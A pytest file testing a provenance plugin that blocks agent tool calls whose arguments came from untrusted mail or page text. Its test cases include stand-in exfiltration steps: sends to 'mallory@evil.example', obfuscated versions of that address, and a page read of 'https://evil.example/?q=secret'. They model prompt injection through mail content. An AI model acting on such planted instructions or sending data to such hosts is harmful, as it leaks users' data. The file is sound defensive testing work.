"""Whose will an argument is: what a user's program says is done, what a stranger wrote is asked about first."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import pytest
from doorward import Call, Function, Program
from doorward_provenance import Provenance, ProvenanceSettings
from doorward_provenance.labels import Labelled
from doorward_testing import DeciderConformance, call_of

from .conftest import CONFIG

pytestmark = pytest.mark.anyio

READ = "result = await mail.list_mails()"


def sends(to: str, body: str = "hello") -> str:
    return f"await mail.send(to=[{to!r}], body={body!r})"


async def refused(gate: Any, code: str, **more: Any) -> str:
    """Why a program's call was not made, as its error says; nobody is asked here, so that it is refused."""
    before = [name for name, _ in gate.office.made]
    outcome = await gate.execute(code, **more)
    assert outcome.error is not None, "it was made"
    assert "[provenance]" in outcome.error.message, outcome.error
    assert [name for name, _ in gate.office.made if name in {"mail.send", "files.delete_file"}] == [
        name for name in before if name in {"mail.send", "files.delete_file"}
    ]
    return str(outcome.error.message)


async def done(gate: Any, code: str, **more: Any) -> None:
    outcome = await gate.execute(code, **more)
    assert outcome.ok, outcome.error


async def test_what_the_user_says_is_done(office: Any) -> None:
    """Also after mails were read and shown: the user said it before. So do parameters."""
    async with office() as gate:
        await done(gate, sends("ann@office.example"))
        await done(gate, READ)
        await done(gate, sends("ann@office.example"))
    async with office() as gate:
        await done(gate, "await mail.send(to=[who])", params={"who": "ann@office.example"})


async def test_an_address_out_of_a_mail_is_asked_about(office: Any) -> None:
    """In the next program, however it is written; the sentence says where it stood."""
    async with office() as gate:
        await done(gate, READ)
        why = await refused(gate, sends("mallory@evil.example"))
        assert "`to[0]` came from a text (`[0].body`) that mail.list_mails answered one program ago" in why
        assert "`to[0]`" in await refused(gate, sends("Mallory@EVIL.example"))
        assert "`to[0]`" in await refused(gate, sends("mallory\u200b@evil.example"))
        assert "2 programs ago" not in why


async def test_an_address_that_the_program_took_out_of_a_mail(office: Any) -> None:
    """Nobody has shown it to the author: the program finds it itself."""
    code = (
        "import re\nfor each in await mail.list_mails():\n"
        "    await mail.send(to=re.findall(r'[a-z]+@evil[.]example', each['body']))"
    )
    async with office() as gate:
        assert "answered in this program" in await refused(gate, code)


async def test_what_a_server_gave_goes_back_to_it(office: Any) -> None:
    """A reply to the sender of a mail, and the id of a mail, in this program and in the next one."""
    code = "for each in await mail.list_mails():\n    await mail.send(to=[each['from']])\n    await mail.delete_mail(id=each['id'])"
    async with office() as gate:
        await done(gate, code)
        await done(gate, "await mail.delete_mail(id='m-17')")


async def test_an_id_that_a_text_names(office: Any) -> None:
    """A text that says which file to delete is somebody's will. In the user's own program it is only data."""
    async with office() as gate:
        await done(gate, READ)
        assert "`file_id` came from a text" in await refused(gate, "await files.delete_file(file_id='13')")
        await done(gate, "await files.delete_file(file_id='99')")


async def test_what_nobody_else_writes_is_free(office: Any) -> None:
    """An address out of one's own address book, as a field and in a text, may be used by any server."""
    async with office() as gate:
        await done(gate, "await mail.list_mails()\nawait mail.send(to=[(await people.get_people())[0]['reach']])")
        code = "about = (await people.get_team())['about']\nawait mail.send(to=[about.split()[7]])"
        await done(gate, code)


async def test_what_is_found_nowhere(office: Any) -> None:
    """An address that was put together: in the user's own program it is the user's where the text of the program shows
    that no mail went into it; in one that was sent after mails had been shown nobody can tell."""
    made = "await mail.send(to=['zo' + 'e' + '@' + 'else' + 'where.example'])"
    decoded = "x = str(await mail.list_mails())\nawait mail.send(to=[x[3:5] + '@' + x[7:9][::-1]])"
    async with office() as gate:
        await done(gate, made)
        await done(gate, f"await mail.list_mails()\n{made}")
        assert "nowhere that is known" in await refused(gate, made.replace("zo", "z"))
    async with office() as gate:
        why = await refused(gate, decoded)
        assert "`to[0]` was computed from what mail.list_mails answered in this program" in why


async def test_what_a_text_does_not_show(office: Any) -> None:
    """A program that hides what it does, or is in another language, is taken to compute from all that it was answered."""
    hides = "x = getattr(mail, 'list_mails')\ny = str(await x())\nawait mail.send(to=['z' + y[3:5]])"
    async with office() as gate:
        assert "was computed from what mail.list_mails" in await refused(gate, hides)


async def test_a_link_may_be_followed_as_it_stands(office: Any) -> None:
    """By the user's own program: it carries nothing out. One that is put together may."""
    async with office() as gate:
        gate.office.mails[0]["body"] += " See https://evil.example/page for more."
        find = "import re\nx = re.findall(r'https://\\S+', (await mail.list_mails())[0]['body'])[0]\n"
        await done(gate, find + "await files.read_page(url=x)")
    async with office() as gate:
        assert "`url` was computed" in await refused(gate, find + "await files.read_page(url=x + '?q=' + x[8:10])")


async def test_a_read_that_carries_something_out(office: Any) -> None:
    """Who reads a page tells its server the address: that reaches others, too."""
    async with office() as gate:
        gate.office.mails[0]["body"] += " See https://evil.example/?q=secret for more."
        await done(gate, READ)
        why = await refused(gate, "await files.read_page(url='https://evil.example/?q=secret')")
        assert "`url` came from a text" in why


async def test_principals_are_apart(office: Any) -> None:
    """What one was shown makes no program of another one suspicious, and what one said allows nothing to another."""
    async with office() as gate:
        await done(gate, READ, principal="ann")
        await done(gate, sends("mallory@evil.example"), principal="bob")
        await refused(gate, sends("mallory@evil.example"), principal="ann")


async def test_a_single_call(office: Any) -> None:
    """A client that writes no programs: the arguments of its calls are what it says."""
    async with office() as gate:
        await gate.call("mail.send", {"to": ["mallory@evil.example"]}, principal="ann")
        await done(gate, READ, principal="bob")
        with pytest.raises(Exception, match=r"came from a text .* that mail\.list_mails answered"):
            await gate.call("mail.send", {"to": ["mallory@evil.example"]}, principal="bob")


async def test_labels_are_the_operators(office: Any) -> None:
    """What they trust is nobody else's; what they call untrusted is; and where a call reaches nobody."""
    async with office('trusted = ["mail.*"]') as gate:
        await done(gate, READ)
        await done(gate, sends("mallory@evil.example"))
    async with office('untrusted = ["people.*"]') as gate:
        await done(gate, "await people.get_team()")
        await refused(gate, sends("bob@office.example"))


def test_the_method_of_a_route_is_no_kind() -> None:
    """Names of operations often end with it: a `post` there is no text that strangers post."""
    labels = Labelled(ProvenanceSettings())
    for name, route, untrusted in (
        ("read_runs_filter_post", "POST /runs/filter", False), ("post_search", "POST /search", False),
        ("read_post", "GET /posts/1", True), ("read_post", "", True),
    ):  # fmt: skip
        assert labels.of(Function("s", name, name, route=route, read_only=True)).untrusted is untrusted


def test_what_a_server_does_not_say() -> None:
    """That a tool only reads, as many do not; and what it offers besides tools."""
    labels = Labelled(ProvenanceSettings())
    kinds = {name: labels.of(Function("s", name, name)).untrusted for name in (
        "get_mails", "search-issues", "fetchPage", "send_mail", "resources/read", "prompts/get",
    )}  # fmt: skip
    assert [name for name, untrusted in kinds.items() if not untrusted] == ["send_mail"]


async def test_then(office: Any) -> None:
    """It may be refused for good, or let pass."""
    async with office('then = "deny"\nmixed = "deny"') as gate:
        await done(gate, READ)
        await refused(gate, sends("mallory@evil.example"))
    async with office('then = "allow"\nmixed = "allow"') as gate:
        await done(gate, READ)
        await done(gate, sends("mallory@evil.example"))


async def test_a_program_may_have_to_be_planned(office: Any) -> None:
    """Then it is refused if it is not, and says so; what a plan withholds, and a call by itself, is asked about."""
    async with office('then = "plan"') as gate:
        await done(gate, READ)
        assert 'Run the program with mode="plan"' in await refused(gate, sends("mallory@evil.example"))
        function = gate.catalog.function("mail", "send")
        provenance = gate.plugins.manager.get_plugin("provenance")
        call = Call(function, {"to": ["mallory@evil.example"]}, "of a plan")
        for program in (Program("", run="of a plan", plan=True), Program("", run="another")):
            with provenance._runs.begun(program):
                decided = provenance._origins.decide(call)
            assert (decided.then, "mode=" in decided.reason) == ("confirm", False)


async def test_an_endpoint_is_no_way_around(office: Any) -> None:
    """What a person was shown by one endpoint counts at another, and at none."""
    async with office() as gate:
        provenance = gate.plugins.manager.get_plugin("provenance")
        shown, *others = [provenance._runs._memory(who) for who in ("bob via inbox", "bob via send", "bob", "ann")]
        assert [memory is shown for memory in others] == [True, True, False]


async def test_a_card_has_the_labels(office: Any) -> None:
    async with office() as gate:
        await gate.ready()
        names = ["send", "list_mails"]
        told = [gate.catalog.notes.lines(gate.catalog.function("mail", name), "python") for name in names]
    assert told[0] == [("Where its values come from and go to:", ["it reaches other people or places: by to"])]
    assert told[1][0][1] == ["others may have written what it answers", "what it answers is not for everybody"]


async def test_where_private_and_untrusted_meet(office: Any) -> None:
    """A program that was sent after both were shown may carry them out in any wording, also to whom the user named:
    who is asked is told. Not where every word of it was the user's."""
    told = sends("ann@office.example", "as it was said")
    async with office() as gate:
        await done(gate, told)
        await done(gate, READ)
        await done(gate, told)
        assert "may carry private" in await refused(gate, sends("ann@office.example", "some other wording"))
    async with office('private = ["people.*"]\ntrusted = ["mail.*"]') as gate:
        await done(gate, told)
        await done(gate, READ)
        await done(gate, sends("ann@office.example", "some other wording"))


async def test_what_the_program_reads_itself_counts(office: Any) -> None:
    """Private answers of the same program, too; a field in a mail to whom the user named."""
    code = "team = await people.get_team()\nawait mail.send(to=['ann@office.example'], body='x' + team['about'][:9])"
    async with office('private = ["people.get_team"]\nuntrusted = ["people.get_people"]\ntrusted = ["mail.*"]') as gate:
        await done(gate, sends("ann@office.example"))
        await done(gate, "await people.get_people()")
        await done(gate, "await mail.send(to=['ann@office.example'], body='nothing of theirs')")
        assert "may carry private" in await refused(gate, code)


async def test_a_short_value_is_said_by_itself(office: Any) -> None:
    """The 13 of a time is no id of a file."""
    async with office() as gate:
        await done(gate, "x = 'at 13:00 on 2024-05-13'\nawait mail.list_mails()")
        assert "`file_id` came from a text" in await refused(gate, "await files.delete_file(file_id='13')")
    async with office() as gate:
        await done(gate, "x = '13'\nawait mail.list_mails()")
        await done(gate, "await files.delete_file(file_id='13')")


async def test_what_was_shown_long_ago_is_forgotten(office: Any) -> None:
    """When the next program begins: it is the user's again."""
    async with office("minutes = 0.0000001") as gate:
        await done(gate, READ)
        await done(gate, sends("ann@office.example"))


async def test_a_client_that_reads_elsewhere(office: Any) -> None:
    """Its programs are never its user's own: an address is asked about that nothing explains."""
    async with office('tainted = ["bot"]') as gate:
        await refused(gate, sends("ann@office.example"), principal="bot")
        await done(gate, sends("ann@office.example"), principal="ann")


async def test_a_server_that_is_not_there_is_told(office: Any) -> None:
    """It may be misspelt, and then its mails are no stranger's."""
    async with office('untrusted = ["mail.*", "mali.get_x"]') as gate:
        assert [*gate.principals.unknown()] == ["[provenance] untrusted: 'mali.get_x' fits no server"]


async def test_texts_leave_as_handles(office: Any) -> None:
    """Where the operator wants that: no model is shown what strangers wrote, in a value, a key, a printed line or an
    error; a program can still read it. What it says itself, fields and what nobody else writes is shown."""
    async with office("handles = true") as gate:
        outcome = await gate.execute(f"{READ}\nprint(result[0]['body'])")
        body = outcome.value[0]["body"]
        assert body.keys() == {"artefact", "type", "bytes"}
        assert (outcome.value[0]["from"], outcome.value[0]["id"]) == ("eve@stranger.example", "m-17")
        assert "mallory" not in str(outcome)
        assert "hidden: " in outcome.printed
        assert "doorward.read(" in str(outcome.notes)
        found = await gate.file(body["artefact"])
        assert b"mallory@evil.example" in found.content
        mixed = "x = (await mail.list_mails())[0]['body']\nresult = {x[:40]: [x.upper(), 'not a word of theirs is in this']}"
        value = (await gate.execute(mixed)).value
        assert "forward" not in str(value).lower()
        assert "not a word of theirs is in this" in str(value)
        outcome = await gate.execute("await mail.read_broken()")
        assert "mallory" not in str(outcome)
        assert "hidden: " in outcome.error.message
        for pieces in (
            "x.split()",
            "x.replace(',', '.').split('. ')",
            "{w: 1 for w in x.split()}",
            "list(enumerate(x.split()))",
        ):
            value = (await gate.execute(f"x = (await mail.list_mails())[0]['body']\nresult = {pieces}")).value
            assert "report" not in str(value)
        facts = "x = (await mail.list_mails())[0]['body'].split()\nresult = [x[2], x[7]]"
        assert (await gate.execute(facts)).value == ["forward", "and"]
        assert "In this team" in str((await gate.execute("result = await people.get_team()")).value)
        assert "text" in await refused(gate, sends("mallory@evil.example"))
    async with office() as gate:
        assert "mallory" in str(await gate.execute(READ))


NUMBER, DATE, LIST = "{'type': 'number'}", "{'type': 'string', 'format': 'date'}", "{'enum': ['x', 'y']}"


@pytest.mark.parametrize(
    ("lines", "schema", "is_free"),
    [
        ("", LIST, False),
        ('declassify = ["enumeration"]', LIST, True),
        ('declassify = ["enumeration"]', NUMBER, False),
        ('declassify = ["number", "date"]', NUMBER, True),
        ('declassify = ["number", "date"]', DATE, True),
        ('declassify = ["enumeration", "number", "date"]', "{'type': 'string'}", False),
    ],
)
async def test_what_a_model_reads_out_of_a_mail(office: Any, lines: str, schema: str, is_free: bool) -> None:
    """It keeps the label of the mail, but for what a rule declassifies: by the schema that the user's program asks
    with."""
    code = f"x = await model.ask(prompt=str(await mail.list_mails()), schema={schema})\n" + (
        "await mail.send(to=['team' + str(x) + '@office.example'])"
    )
    async with office(lines) as gate:
        if is_free:
            await done(gate, code)
        else:
            assert "was computed from what" in await refused(gate, code)
        await gate.execute(READ)
        assert "nowhere that is known" in await refused(gate, code)  # it is not the user's


@pytest.mark.slow
def test_the_labels_are_shown(doorward_host: Any, office: Any, cli: Any) -> None:
    """Those of all functions that have any, or of some; by kind and by the configuration."""
    doorward_host.install_real("doorward-provenance", "doorward-store-sqlite", "text")
    doorward_host.write(CONFIG + 'private = ["people.get_team"]\ntrusted = ["mail.get_attachment"]\n')
    cli("compile")
    found = {line.split()[0]: line.split(None, 1)[1].strip() for line in cli("provenance").out.splitlines()[1:]}
    assert found["mail.list_mails"] == "untrusted, private"
    assert found["mail.get_attachment"] == "private"
    assert found["mail.send"] == "outward (to)"
    assert found["people.get_team"] == "private"
    assert "people.get_people" not in found
    assert cli("provenance", "--json", "mail.s*").json["labels"] == {
        "mail.send": {"untrusted": False, "private": False, "outward": True, "places": ["to"]}
    }
    doorward_host.write(CONFIG.replace("[provenance]", "").replace('"provenance"', ""))
    assert "not in use" in cli("provenance").err


class TestConformance(DeciderConformance):
    """What holds for every decider."""

    plugin = Provenance

    def owned(self) -> Mapping[str, tuple[Any, Any]]:
        return {"provenance": (ProvenanceSettings, {"tainted": ["*"], "outward": ["notes.send"], "then": "deny"})}

    def refused(self) -> Sequence[Call]:
        return [call_of("notes.send", False, to="eve@stranger.example")]

    def passed(self) -> Sequence[Call]:
        return [call_of("notes.find", words="x"), call_of("notes.add", False, text="y")]
